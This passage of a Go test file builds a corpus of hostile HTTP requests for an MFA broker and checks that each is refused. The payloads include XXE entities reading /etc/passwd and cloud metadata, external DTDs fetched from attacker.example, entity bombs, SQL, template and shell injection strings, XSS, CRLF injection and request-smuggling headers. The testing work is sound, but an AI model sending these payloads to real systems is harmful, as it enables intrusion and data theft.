package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/legalmfa/mfa/internal/poll"
	"github.com/legalmfa/mfa/notify"
	"github.com/legalmfa/mfa/notify/notifytest"
)

var updateCorpus = flag.Bool("update-corpus", false, "rewrite testdata/hostile from the generator in hostile_test.go")

const (
	corpusDir = "testdata/hostile"
	// The victim is a real, approved person with a listening device: every
	// hostile request is about them, or about no one, and none may push.
	victimPNR     = "19791231-1234"
	victimCountry = "SE"
)

// corpusCase is one hostile request and what the broker must answer.
type corpusCase struct {
	name   string
	raw    []byte
	status int
	code   string // "" when net/http refuses the request before the broker sees it
}

// TestHostileCorpus replays every request in testdata/hostile against a
// running broker: each gets its documented 4xx, none gets a 5xx or makes a
// phone buzz, and afterwards the broker is healthy and has leaked no
// goroutines.
func TestHostileCorpus(t *testing.T) {
	if *updateCorpus {
		writeCorpus(t, generateCorpus())
	}
	cases := readCorpus(t)
	if len(cases) < 200 {
		t.Fatalf("the corpus has %d requests; the security bar is at least 200", len(cases))
	}
	tb := startBroker(t)
	victim := tb.person(victimPNR, victimCountry, notifytest.Always(notify.Approve))
	addr := strings.TrimPrefix(tb.srv.HTTPURL(), "http://")
	// Warm up the server's own goroutines before counting.
	tb.do(http.MethodGet, "/readyz", "", "", nil)
	baseline := runtime.NumGoroutine()

	for _, c := range cases {
		resp := sendRaw(t, addr, c.raw)
		for _, pnr := range personalNumbers(c.raw) {
			if bytes.Contains(resp.body, []byte(pnr)) {
				t.Errorf("%s: the answer repeats the personal number %s: %s", c.name, pnr, resp.body)
			}
		}
		if resp.status >= 500 {
			t.Errorf("%s: %d %s", c.name, resp.status, resp.body)
			continue
		}
		if resp.status != c.status {
			t.Errorf("%s: status %d, want %d: %s", c.name, resp.status, c.status, resp.body)
			continue
		}
		if c.code == "" {
			continue
		}
		// Answered in the request's own format: parse whichever it is.
		media, _, _ := strings.Cut(resp.header.Get("Content-Type"), ";")
		o := tb.parseOutcome(resp, media)
		if o.code != c.code || o.message == "" {
			t.Errorf("%s: code %q (%s), want %s", c.name, o.code, o.message, c.code)
		}
	}
	tb.barrier(victim, victimPNR, victimCountry)
	if r := tb.do(http.MethodGet, "/readyz", "", "", nil); r.status != http.StatusOK {
		t.Fatalf("not ready after the corpus: %d %s", r.status, r.body)
	}
	if o := tb.postMFA(context.Background(), "json", mfaBody{PNR: victimPNR, COUNTRY: victimCountry, Timeout: 10, Reason: "still works"}, ""); o.code != "approved" {
		t.Fatalf("a good request after the corpus: %s", o.code)
	}
	poll.Until(t, "goroutines back to the baseline", func() bool {
		return runtime.NumGoroutine() <= baseline+5
	})
}

// sendRaw writes a request as bytes on a fresh connection and reads the
// answer; the connection is closed by the request's own Connection: close,
// or by the server after a protocol error.
func sendRaw(t *testing.T, addr string, raw []byte) httpResult {
	t.Helper()
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := c.Write(raw); err != nil {
		t.Fatalf("write: %v", err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatalf("no HTTP answer: %v", err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return httpResult{status: resp.StatusCode, header: resp.Header, body: body}
}

func readCorpus(t *testing.T) []corpusCase {
	t.Helper()
	manifest, err := os.ReadFile(filepath.Join(corpusDir, "MANIFEST"))
	if err != nil {
		t.Fatalf("read the corpus manifest (regenerate with -update-corpus): %v", err)
	}
	var cases []corpusCase
	for _, line := range strings.Split(strings.TrimSpace(string(manifest)), "\n") {
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		f := strings.Fields(line)
		if len(f) < 2 {
			t.Fatalf("manifest line %q", line)
		}
		status, err := strconv.Atoi(f[1])
		if err != nil {
			t.Fatalf("manifest line %q", line)
		}
		raw, err := os.ReadFile(filepath.Join(corpusDir, f[0]))
		if err != nil {
			t.Fatal(err)
		}
		c := corpusCase{name: f[0], raw: raw, status: status}
		if len(f) > 2 {
			c.code = f[2]
		}
		cases = append(cases, c)
	}
	return cases
}

func writeCorpus(t *testing.T, cases []corpusCase) {
	t.Helper()
	if err := os.RemoveAll(corpusDir); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(corpusDir, 0o755); err != nil {
		t.Fatal(err)
	}
	var manifest strings.Builder
	manifest.WriteString("# file  expected-status  expected-code (none: refused by net/http before the broker)\n")
	for i, c := range cases {
		name := fmt.Sprintf("%03d-%s.http", i+1, c.name)
		if err := os.WriteFile(filepath.Join(corpusDir, name), c.raw, 0o644); err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&manifest, "%s %d %s\n", name, c.status, c.code)
	}
	if err := os.WriteFile(filepath.Join(corpusDir, "MANIFEST"), []byte(manifest.String()), 0o644); err != nil {
		t.Fatal(err)
	}
}

// request is a well-formed HTTP request around a hostile body.
func request(contentType, accept string, body []byte, extraHeaders ...string) []byte {
	var b bytes.Buffer
	b.WriteString("POST /MFA HTTP/1.1\r\nHost: broker.test\r\n")
	if contentType != "" {
		b.WriteString("Content-Type: " + contentType + "\r\n")
	}
	if accept != "" {
		b.WriteString("Accept: " + accept + "\r\n")
	}
	for _, h := range extraHeaders {
		b.WriteString(h + "\r\n")
	}
	fmt.Fprintf(&b, "Content-Length: %d\r\nConnection: close\r\n\r\n", len(body))
	b.Write(body)
	return b.Bytes()
}

func xmlBody(inner string) []byte {
	return []byte(`<MFA xmlns="http://waher.se/Schema/MFA.xsd">` + inner + `</MFA>`)
}

func xmlFields(pnr, country, timeout, reason string) string {
	return "<PNR>" + pnr + "</PNR><COUNTRY>" + country + "</COUNTRY><Timeout>" + timeout + "</Timeout><Reason>" + reason + "</Reason>"
}

func jsonFields(fields map[string]any) []byte {
	keys := make([]string, 0, len(fields))
	for k := range fields {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var b bytes.Buffer
	b.WriteString("{")
	for i, k := range keys {
		if i > 0 {
			b.WriteString(",")
		}
		v, _ := json.Marshal(fields[k])
		b.WriteString(strconv.Quote(k) + ":" + string(v))
	}
	b.WriteString("}")
	return b.Bytes()
}

func victimJSON(override map[string]any) map[string]any {
	f := map[string]any{"PNR": victimPNR, "COUNTRY": victimCountry, "Timeout": 30, "Reason": "Log in"}
	for k, v := range override {
		if v == nil {
			delete(f, k)
		} else {
			f[k] = v
		}
	}
	return f
}

func victimForm(override url.Values) []byte {
	v := url.Values{"PNR": {victimPNR}, "COUNTRY": {victimCountry}, "Timeout": {"30"}, "Reason": {"Log in"}}
	for k, vals := range override {
		v[k] = vals
	}
	return []byte(v.Encode())
}

// generateCorpus is the source of the checked-in corpus. Each entry is a
// request an attacker, a fuzzer or a broken client might send, with the
// answer the README documents for it.
func generateCorpus() []corpusCase {
	const (
		xmlCT  = "text/xml; charset=utf-8"
		jsonCT = "application/json"
		formCT = "application/x-www-form-urlencoded"
	)
	var cs []corpusCase
	add := func(name string, raw []byte, status int, code string) {
		cs = append(cs, corpusCase{name: name, raw: raw, status: status, code: code})
	}
	okXML := xmlFields(victimPNR, victimCountry, "30", "Log in")

	// Broken and adversarial XML.
	xmlCases := []struct {
		name, body, code string
	}{
		{"xml-truncated", `<MFA xmlns="http://waher.se/Schema/MFA.xsd"><PNR>1`, "malformed"},
		{"xml-mismatched-tags", `<MFA xmlns="http://waher.se/Schema/MFA.xsd"><PNR>1</COUNTRY></MFA>`, "malformed"},
		{"xml-two-roots", string(xmlBody(okXML)) + string(xmlBody(okXML)), "malformed"},
		{"xml-doctype-internal", `<!DOCTYPE MFA [<!ELEMENT MFA ANY>]>` + string(xmlBody(okXML)), "malformed"},
		{"xml-doctype-system", `<!DOCTYPE MFA SYSTEM "http://attacker.example/x.dtd">` + string(xmlBody(okXML)), "malformed"},
		{"xml-doctype-public", `<!DOCTYPE MFA PUBLIC "-//X//Y" "file:///etc/passwd">` + string(xmlBody(okXML)), "malformed"},
		{"xml-xxe-file", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + string(xmlBody(xmlFields("&x;", "SE", "30", "r"))), "malformed"},
		{"xml-xxe-http", `<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>` + string(xmlBody(xmlFields("&x;", "SE", "30", "r"))), "malformed"},
		{"xml-billion-laughs", `<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>` + string(xmlBody(xmlFields("&c;", "SE", "30", "r"))), "malformed"},
		{"xml-parameter-entity", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>` + string(xmlBody(okXML)), "malformed"},
		{"xml-undefined-entity", string(xmlBody(xmlFields("&nope;", "SE", "30", "r"))), "malformed"},
		{"xml-doctype-after-pi", `<?xml version="1.0"?><?pi x?><!DOCTYPE MFA>` + string(xmlBody(okXML)), "malformed"},
		{"xml-nul-char-ref", string(xmlBody(xmlFields("1&#0;2", "SE", "30", "r"))), "malformed"},
		{"xml-escape-char-ref", string(xmlBody(xmlFields(victimPNR, "SE", "30", "&#27;[2J"))), "malformed"},
		{"xml-invalid-utf8", string(xmlBody(xmlFields(victimPNR, "SE", "30", "\xff\xfe"))), "malformed"},
		{"xml-unterminated-comment", `<MFA xmlns="http://waher.se/Schema/MFA.xsd"><!-- ` + okXML, "malformed"},
		{"xml-unterminated-cdata", `<MFA xmlns="http://waher.se/Schema/MFA.xsd"><PNR><![CDATA[1</PNR></MFA>`, "malformed"},
		{"xml-deep-nesting", strings.Repeat("<a>", 2000) + strings.Repeat("</a>", 2000), "malformed"},
		{"xml-no-root", `<?xml version="1.0"?>`, "malformed"},
		{"xml-only-text", `just text`, "malformed"},
		{"xml-wrong-namespace", `<MFA xmlns="http://attacker.example/MFA.xsd">` + okXML + `</MFA>`, "schema-violation"},
		{"xml-no-namespace", `<MFA>` + okXML + `</MFA>`, "schema-violation"},
		{"xml-prefix-trick", `<x:MFA xmlns:x="http://waher.se/Schema/MFA.xsd" xmlns="http://attacker.example/">` + okXML + `</x:MFA>`, "unknown-field"},
		{"xml-response-as-request", `<MFAResponse xmlns="http://waher.se/Schema/MFA.xsd"><Code>approved</Code><Message/></MFAResponse>`, "schema-violation"},
		{"xml-xsi-type", `<MFA xmlns="http://waher.se/Schema/MFA.xsd" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="Other">` + okXML + `</MFA>`, "schema-violation"},
		{"xml-attribute-on-pnr", string(xmlBody(strings.Replace(okXML, "<PNR>", `<PNR admin="true">`, 1))), "schema-violation"},
		{"xml-unknown-element", string(xmlBody(okXML + "<Admin>true</Admin>")), "unknown-field"},
		{"xml-repeated-pnr", string(xmlBody("<PNR>1</PNR>" + okXML)), "duplicate-field"},
		{"xml-out-of-order", string(xmlBody("<COUNTRY>SE</COUNTRY><PNR>" + victimPNR + "</PNR><Timeout>30</Timeout><Reason>r</Reason>")), "schema-violation"},
		{"xml-missing-reason", string(xmlBody("<PNR>" + victimPNR + "</PNR><COUNTRY>SE</COUNTRY><Timeout>30</Timeout>")), "missing-field"},
		{"xml-text-between-elements", string(xmlBody("junk" + okXML)), "schema-violation"},
		{"xml-child-in-pnr", string(xmlBody(strings.Replace(okXML, "<PNR>"+victimPNR+"</PNR>", "<PNR><b>1</b></PNR>", 1))), "schema-violation"},
		{"xml-legalid-without-signature", string(xmlBody(okXML + "<LegalId>rp@legal.broker.test</LegalId>")), "missing-field"},
		{"xml-signature-not-base64", string(xmlBody(okXML + "<LegalId>rp@legal.broker.test</LegalId><Signature>!!!</Signature><Issued>2026-11-22T13:45:00Z</Issued><Nonce>0123456789abcdef</Nonce>")), "invalid-field"},
		{"xml-timeout-zero", string(xmlBody(xmlFields(victimPNR, "SE", "0", "r"))), "invalid-field"},
		{"xml-timeout-negative", string(xmlBody(xmlFields(victimPNR, "SE", "-1", "r"))), "invalid-field"},
		{"xml-timeout-huge", string(xmlBody(xmlFields(victimPNR, "SE", strings.Repeat("9", 400), "r"))), "invalid-field"},
		{"xml-timeout-fraction", string(xmlBody(xmlFields(victimPNR, "SE", "1.5", "r"))), "invalid-field"},
		{"xml-timeout-exponent", string(xmlBody(xmlFields(victimPNR, "SE", "1e3", "r"))), "invalid-field"},
		{"xml-timeout-hex", string(xmlBody(xmlFields(victimPNR, "SE", "0x1e", "r"))), "invalid-field"},
		{"xml-empty-pnr", string(xmlBody(xmlFields("", "SE", "30", "r"))), "invalid-field"},
		{"xml-country-lowercase", string(xmlBody(xmlFields(victimPNR, "se", "30", "r"))), "invalid-field"},
		{"xml-country-markup", string(xmlBody(xmlFields(victimPNR, "&lt;b&gt;", "30", "r"))), "invalid-field"},
		{"xml-reason-too-long", string(xmlBody(xmlFields(victimPNR, "SE", "30", strings.Repeat("x", 2001)))), "invalid-field"},
		{"xml-reason-bidi-override", string(xmlBody(xmlFields(victimPNR, "SE", "30", "Pay 100\u202e0001 EUR"))), "invalid-field"},
		{"xml-pnr-cdata-space", string(xmlBody(xmlFields("<![CDATA[ 1]]>", "SE", "30", "r"))), "invalid-field"},
		{"xml-utf16-declared", `<?xml version="1.0" encoding="UTF-16"?>` + string(xmlBody(okXML)), "malformed"},
	}
	for _, c := range xmlCases {
		status := 400
		add(c.name, request(xmlCT, "", []byte(c.body)), status, c.code)
	}

	// Broken and adversarial JSON.
	jsonCases := []struct {
		name, body, code string
	}{
		{"json-truncated", `{"PNR":"1",`, "malformed"},
		{"json-trailing-comma", `{"PNR":"1","COUNTRY":"SE","Timeout":30,"Reason":"r",}`, "malformed"},
		{"json-comment", `{/* x */"PNR":"1"}`, "malformed"},
		{"json-single-quotes", `{'PNR':'1'}`, "malformed"},
		{"json-nan", `{"PNR":"1","COUNTRY":"SE","Timeout":NaN,"Reason":"r"}`, "malformed"},
		{"json-infinity", `{"PNR":"1","COUNTRY":"SE","Timeout":Infinity,"Reason":"r"}`, "malformed"},
		{"json-top-array", `[{"PNR":"1"}]`, "malformed"},
		{"json-top-string", `"PNR"`, "malformed"},
		{"json-top-null", `null`, "malformed"},
		{"json-two-objects", string(jsonFields(victimJSON(nil))) + string(jsonFields(victimJSON(nil))), "malformed"},
		{"json-bom", "\xef\xbb\xbf" + string(jsonFields(victimJSON(nil))), "malformed"},
		{"json-invalid-utf8", `{"PNR":"` + victimPNR + "\xc3\x28" + `"}`, "malformed"},
		{"json-deep-array", `{"PNR":` + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + `}`, "invalid-field"},
		{"json-deep-object", `{"PNR":` + strings.Repeat(`{"a":`, 5000) + `1` + strings.Repeat("}", 5000) + `}`, "invalid-field"},
		{"json-duplicate-pnr", `{"PNR":"other","PNR":"` + victimPNR + `","COUNTRY":"SE","Timeout":30,"Reason":"r"}`, "duplicate-field"},
		{"json-escaped-duplicate-key", `{"P\u004eR":"other","PNR":"` + victimPNR + `","COUNTRY":"SE","Timeout":30,"Reason":"r"}`, "duplicate-field"},
		{"json-case-variant-key", string(jsonFields(victimJSON(map[string]any{"pnr": "x"}))), "unknown-field"},
		{"json-proto-key", string(jsonFields(victimJSON(map[string]any{"__proto__": map[string]any{"admin": true}}))), "unknown-field"},
		{"json-dollar-key", string(jsonFields(victimJSON(map[string]any{"$where": "1"}))), "unknown-field"},
		{"json-nul-key", `{"PNR\u0000":"1"}`, "unknown-field"},
		{"json-pnr-object", string(jsonFields(victimJSON(map[string]any{"PNR": map[string]any{"$ne": nil}}))), "invalid-field"},
		{"json-pnr-array", string(jsonFields(victimJSON(map[string]any{"PNR": []string{victimPNR}}))), "invalid-field"},
		{"json-pnr-number", `{"PNR":197912311234,"COUNTRY":"SE","Timeout":30,"Reason":"r"}`, "invalid-field"},
		{"json-pnr-bool", `{"PNR":true,"COUNTRY":"SE","Timeout":30,"Reason":"r"}`, "invalid-field"},
		{"json-pnr-null", `{"PNR":null,"COUNTRY":"SE","Timeout":30,"Reason":"r"}`, "invalid-field"},
		{"json-pnr-nul-byte", `{"PNR":"1979\u00001231","COUNTRY":"SE","Timeout":30,"Reason":"r"}`, "invalid-field"},
		{"json-pnr-lone-surrogate", `{"PNR":"\ud800","COUNTRY":"SE","Timeout":30,"Reason":"r"}`, "unknown-person"},
		{"json-timeout-string", string(jsonFields(victimJSON(map[string]any{"Timeout": "30"}))), "invalid-field"},
		{"json-timeout-float", `{"PNR":"1","COUNTRY":"SE","Timeout":30.0,"Reason":"r"}`, "invalid-field"},
		{"json-timeout-exponent", `{"PNR":"1","COUNTRY":"SE","Timeout":3e1,"Reason":"r"}`, "invalid-field"},
		{"json-timeout-zero", string(jsonFields(victimJSON(map[string]any{"Timeout": 0}))), "invalid-field"},
		{"json-timeout-negative", string(jsonFields(victimJSON(map[string]any{"Timeout": -30}))), "invalid-field"},
		{"json-timeout-huge", `{"PNR":"1","COUNTRY":"SE","Timeout":` + strings.Repeat("9", 1000) + `,"Reason":"r"}`, "invalid-field"},
		{"json-timeout-1e999", `{"PNR":"1","COUNTRY":"SE","Timeout":1e999,"Reason":"r"}`, "invalid-field"},
		{"json-timeout-negative-zero", `{"PNR":"1","COUNTRY":"SE","Timeout":-0,"Reason":"r"}`, "invalid-field"},
		{"json-missing-country", string(jsonFields(victimJSON(map[string]any{"COUNTRY": nil}))), "missing-field"},
		{"json-empty-object", `{}`, "missing-field"},
		{"json-reason-array", string(jsonFields(victimJSON(map[string]any{"Reason": []string{"a"}}))), "invalid-field"},
		{"json-reason-blank", string(jsonFields(victimJSON(map[string]any{"Reason": " \n\t "}))), "invalid-field"},
		{"json-signature-without-legalid", string(jsonFields(victimJSON(map[string]any{"Signature": strings.Repeat("A", 86) + "=="}))), "missing-field"},
		{"json-nonce-without-legalid", string(jsonFields(victimJSON(map[string]any{"Nonce": "0123456789abcdef"}))), "missing-field"},
		{"json-legalid-empty", string(jsonFields(victimJSON(map[string]any{"LegalId": "", "Signature": strings.Repeat("A", 86) + "==", "Issued": "2026-11-22T13:45:00Z", "Nonce": "0123456789abcdef"}))), "invalid-field"},
		{"json-issued-garbage", string(jsonFields(victimJSON(map[string]any{"LegalId": "rp@legal.broker.test", "Signature": strings.Repeat("A", 86) + "==", "Issued": "tomorrow", "Nonce": "0123456789abcdef"}))), "invalid-field"},
		{"json-nonce-short", string(jsonFields(victimJSON(map[string]any{"LegalId": "rp@legal.broker.test", "Signature": strings.Repeat("A", 86) + "==", "Issued": "2026-11-22T13:45:00Z", "Nonce": "x"}))), "invalid-field"},
		{"json-unknown-requester", string(jsonFields(victimJSON(map[string]any{"LegalId": "nobody@legal.broker.test", "Signature": strings.Repeat("A", 86) + "==", "Issued": "2026-11-22T13:45:00Z", "Nonce": "0123456789abcdef"}))), "unknown-requester"},
	}
	for _, c := range jsonCases {
		status := 400
		switch c.code {
		case "unknown-person":
			status = 404
		case "unknown-requester":
			status = 401
		}
		add(c.name, request(jsonCT, "", []byte(c.body)), status, c.code)
	}

	// Broken and adversarial forms.
	formCases := []struct {
		name, body, code string
	}{
		{"form-bad-escape", string(victimForm(nil)) + "&x=%zz", "malformed"},
		{"form-semicolon", string(victimForm(nil)) + ";Admin=1", "malformed"},
		{"form-repeated-pnr", string(victimForm(url.Values{"PNR": {victimPNR, "other"}})), "duplicate-field"},
		{"form-repeated-timeout", string(victimForm(nil)) + "&Timeout=5", "duplicate-field"},
		{"form-bracket-key", string(victimForm(nil)) + "&PNR[]=1", "unknown-field"},
		{"form-index-key", string(victimForm(nil)) + "&PNR[0]=1", "unknown-field"},
		{"form-dotted-key", string(victimForm(nil)) + "&PNR.x=1", "unknown-field"},
		{"form-lowercase-key", string(victimForm(nil)) + "&reason=x", "unknown-field"},
		{"form-key-only", string(victimForm(nil)) + "&Admin", "unknown-field"},
		{"form-empty-key", string(victimForm(nil)) + "&=1", "unknown-field"},
		{"form-nul-in-pnr", string(victimForm(url.Values{"PNR": {"1979\x001231"}})), "invalid-field"},
		{"form-crlf-in-pnr", string(victimForm(url.Values{"PNR": {victimPNR + "\r\nX-Injected: 1"}})), "invalid-field"},
		{"form-log-injection-reason", string(victimForm(url.Values{"Reason": {"ok\x1b[31m level=ERROR msg=forged"}})), "invalid-field"},
		{"form-invalid-utf8-reason", string(victimForm(url.Values{"Reason": {"\xff"}})), "invalid-field"},
		{"form-timeout-words", string(victimForm(url.Values{"Timeout": {"thirty"}})), "invalid-field"},
		{"form-timeout-space", string(victimForm(url.Values{"Timeout": {" 30"}})), "invalid-field"},
		{"form-timeout-plus-minus", string(victimForm(url.Values{"Timeout": {"+-30"}})), "invalid-field"},
		{"form-timeout-max-int", string(victimForm(url.Values{"Timeout": {"9223372036854775808"}})), "invalid-field"},
		{"form-country-three", string(victimForm(url.Values{"COUNTRY": {"SWE"}})), "invalid-field"},
		{"form-country-reserved", string(victimForm(url.Values{"COUNTRY": {"ZZ"}})), "invalid-field"},
		{"form-pnr-too-long", string(victimForm(url.Values{"PNR": {strings.Repeat("1", 65)}})), "invalid-field"},
		{"form-pnr-nbsp-end", string(victimForm(url.Values{"PNR": {victimPNR + "\u00a0"}})), "invalid-field"},
		{"form-signature-bad-base64", string(victimForm(url.Values{"LegalId": {"rp@legal.broker.test"}, "Signature": {"***"}, "Issued": {"2026-11-22T13:45:00Z"}, "Nonce": {"0123456789abcdef"}})), "invalid-field"},
		{"form-legalid-spaces", string(victimForm(url.Values{"LegalId": {"a b@c"}, "Signature": {strings.Repeat("A", 86) + "=="}, "Issued": {"2026-11-22T13:45:00Z"}, "Nonce": {"0123456789abcdef"}})), "invalid-field"},
		{"form-legalid-only", string(victimForm(url.Values{"LegalId": {"rp@legal.broker.test"}})), "missing-field"},
		{"form-empty-body-fields", "PNR=&COUNTRY=&Timeout=&Reason=", "invalid-field"},
		{"form-missing-all", "Submit=Send", "unknown-field"},
	}
	for _, c := range formCases {
		add(c.name, request(formCT, "", []byte(c.body)), 400, c.code)
	}

	// Values meant for somewhere else: NATS subjects, stores, templates,
	// terminals, logs. A PNR with them is a number nobody has (404, no
	// push); a Reason with them is either refused or shown inert.
	payloads := []struct{ name, value string }{
		{"nats-gt", ">"}, {"nats-star", "*"}, {"nats-subject", "mfa.push.>"}, {"nats-dots", "a.b.c"},
		{"nats-wildcard-mix", "*.>"}, {"mongo-ne", `{"$ne": null}`}, {"mongo-where", "$where"},
		{"mongo-regex", `{"$regex": ".*"}`}, {"sql", "' OR '1'='1' --"}, {"sql-union", "1 UNION SELECT * FROM identities"},
		{"html-script", "<script>alert(1)</script>"}, {"html-img", `"><img src=x onerror=alert(1)>`},
		{"template", "{{.}}"}, {"template-call", `{{call .Exec "id"}}`}, {"path-traversal", "../../../etc/passwd"},
		{"ldap", "*)(uid=*))(|(uid=*"}, {"shell", "$(id)"}, {"shell-backtick", "`id`"},
		{"format-string", "%s%s%s%n"}, {"unicode-homoglyph", "19791231‐1234"}, {"fullwidth-digits", "１９７９１２３１１２３４"},
		{"zero-width-joiner", "1979\u200d1231-1234"}, {"percent-encoded", "%31%39%37%39"}, {"victim-with-suffix", victimPNR + "0"},
		{"victim-prefix", victimPNR[:8]}, {"emoji", "🔐🔐🔐"}, {"rtl-text", "שלום"}, {"long-utf8", strings.Repeat("å", 64)},
	}
	for _, p := range payloads {
		add("pnr-json-"+p.name, request(jsonCT, "", jsonFields(victimJSON(map[string]any{"PNR": p.value}))), 404, "unknown-person")
		add("pnr-form-"+p.name, request(formCT, "", victimForm(url.Values{"PNR": {p.value}})), 404, "unknown-person")
	}
	for _, p := range payloads[:12] {
		var esc bytes.Buffer
		xmlEscapeText(&esc, p.value)
		add("pnr-xml-"+p.name, request(xmlCT, "", xmlBody(xmlFields(esc.String(), "SE", "30", "r"))), 404, "unknown-person")
	}
	for _, p := range []struct{ name, value string }{
		{"terminal-clear", "\x1b[2J\x1b[H"}, {"terminal-title", "\x1b]0;pwned\x07"}, {"terminal-cursor-up", "ok\x1b[1A✔ verified"},
		{"bell", "ring\x07"}, {"backspace", "Pay 1000\b\b\b\b100"}, {"nul", "a\x00b"}, {"bidi-isolate", "a\u2067b\u2069"},
		{"line-separator", "a\u2028b"}, {"zero-width-space", "Exa\u200bmple Bank"}, {"bom", "\ufeffhello"},
		{"c1-csi", "a\u009b2Jb"}, {"del", "a\x7fb"},
	} {
		add("reason-json-"+p.name, request(jsonCT, "", jsonFields(victimJSON(map[string]any{"Reason": p.value}))), 400, "invalid-field")
		add("reason-form-"+p.name, request(formCT, "", victimForm(url.Values{"Reason": {p.value}})), 400, "invalid-field")
	}

	// HTTP-level trouble.
	ok := jsonFields(victimJSON(nil))
	add("http-no-content-type", request("", "", ok), 415, "unsupported-media-type")
	add("http-text-plain", request("text/plain", "", ok), 415, "unsupported-media-type")
	add("http-multipart", request("multipart/form-data; boundary=x", "", []byte("--x\r\nContent-Disposition: form-data; name=\"PNR\"\r\n\r\n1\r\n--x--")), 415, "unsupported-media-type")
	add("http-json-utf16", request("application/json; charset=utf-16", "", ok), 415, "unsupported-media-type")
	add("http-xml-unknown-charset", request("text/xml; charset=klingon", "", xmlBody(okXML)), 415, "unsupported-media-type")
	add("http-content-type-garbage", request(";;;/", "", ok), 415, "unsupported-media-type")
	add("http-content-type-json-suffix", request("application/vnd.evil+json", "", ok), 415, "unsupported-media-type")
	add("http-not-acceptable", request(jsonCT, "image/png", ok), 406, "not-acceptable")
	add("http-all-q-zero", request(jsonCT, "*/*;q=0", ok), 406, "not-acceptable")
	add("http-empty-body", request(jsonCT, "", nil), 400, "malformed")
	add("http-body-too-large", request(jsonCT, "", append([]byte(`{"Reason":"`), bytes.Repeat([]byte("a"), 70000)...)), 413, "body-too-large")
	add("http-declared-huge-length", []byte("POST /MFA HTTP/1.1\r\nHost: b\r\nContent-Type: application/json\r\nContent-Length: 1000000000\r\nConnection: close\r\n\r\n{"), 413, "body-too-large")
	add("http-chunked-too-large", chunked(jsonCT, bytes.Repeat([]byte("a"), 70000)), 413, "body-too-large")
	add("http-chunked-ok-but-invalid", chunked(jsonCT, []byte(`{"PNR":`)), 400, "malformed")
	add("http-method-put", []byte("PUT /MFA HTTP/1.1\r\nHost: b\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"), 405, "method-not-allowed")
	add("http-method-delete", []byte("DELETE /MFA HTTP/1.1\r\nHost: b\r\nConnection: close\r\n\r\n"), 405, "method-not-allowed")
	add("http-unknown-path", []byte("GET /admin/identities HTTP/1.1\r\nHost: b\r\nConnection: close\r\n\r\n"), 404, "not-found")
	add("http-traversal-path", []byte("GET /../../etc/passwd HTTP/1.1\r\nHost: b\r\nConnection: close\r\n\r\n"), 404, "not-found")
	add("http-debug-path", []byte("GET /debug/pprof/ HTTP/1.1\r\nHost: b\r\nConnection: close\r\n\r\n"), 404, "not-found")
	add("http-identity-not-found", []byte("GET /Identities/%00 HTTP/1.1\r\nHost: b\r\nConnection: close\r\n\r\n"), 404, "not-found")
	add("http-spoofed-forwarded-for", request(jsonCT, "", jsonFields(victimJSON(map[string]any{"Timeout": 0})), "X-Forwarded-For: 10.0.0.1"), 400, "invalid-field")
	// Refused by net/http itself, before the broker: no outcome code.
	add("http-both-lengths", []byte("POST /MFA HTTP/1.1\r\nHost: b\r\nContent-Type: application/json\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n"), 400, "")
	add("http-bad-header-name", []byte("POST /MFA HTTP/1.1\r\nHost: b\r\nBad Header: x\r\nConnection: close\r\n\r\n"), 400, "")
	add("http-huge-header", []byte("POST /MFA HTTP/1.1\r\nHost: b\r\nX-Big: "+strings.Repeat("a", 40000)+"\r\nConnection: close\r\n\r\n"), 431, "")
	add("http-no-host", []byte("POST /MFA HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"), 400, "")
	add("http-two-hosts", []byte("POST /MFA HTTP/1.1\r\nHost: a\r\nHost: b\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"), 400, "")
	add("http-bad-content-length", []byte("POST /MFA HTTP/1.1\r\nHost: b\r\nContent-Length: -1\r\nConnection: close\r\n\r\n"), 400, "")

	// A personal number where a name or another value belongs: no answer
	// may repeat it. curl -d sends a form unless told otherwise.
	add("curl-json-as-form", request(formCT, "", ok), 415, "unsupported-media-type")
	add("curl-xml-as-form", request(formCT, "", xmlBody(okXML)), 415, "unsupported-media-type")
	add("form-pnr-as-key", request(formCT, "", []byte(string(victimForm(nil))+"&"+victimPNR+"=x")), 400, "unknown-field")
	add("json-pnr-as-key", request(jsonCT, "", jsonFields(victimJSON(map[string]any{victimPNR: "x"}))), 400, "unknown-field")
	add("xml-pnr-as-element", request(xmlCT, "", xmlBody(okXML+"<P"+victimPNR+">x</P"+victimPNR+">")), 400, "unknown-field")
	add("xml-pnr-as-namespace", request(xmlCT, "", []byte(`<MFA xmlns="urn:`+victimPNR+`">`+okXML+`</MFA>`)), 400, "schema-violation")
	add("json-pnr-in-timeout", request(jsonCT, "", jsonFields(victimJSON(map[string]any{"Timeout": victimPNR}))), 400, "invalid-field")
	add("form-pnr-in-timeout", request(formCT, "", victimForm(url.Values{"Timeout": {victimPNR}})), 400, "invalid-field")
	add("xml-pnr-in-timeout", request(xmlCT, "", xmlBody(xmlFields(victimPNR, "SE", victimPNR, "r"))), 400, "invalid-field")
